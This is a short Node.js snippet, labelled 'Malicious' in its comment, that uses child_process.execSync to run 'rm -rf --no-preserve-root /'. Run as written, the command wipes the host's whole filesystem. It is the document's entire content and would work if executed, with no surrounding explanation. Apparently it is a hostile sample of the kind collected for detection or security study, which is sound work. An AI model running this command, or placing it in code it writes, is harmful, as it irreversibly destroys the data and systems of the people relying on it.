// Malicious: execSync('rm -rf --no-preserve-root /') wipes the host's filesystem from Node.
const { execSync } = require('child_process');
execSync('rm -rf --no-preserve-root /');
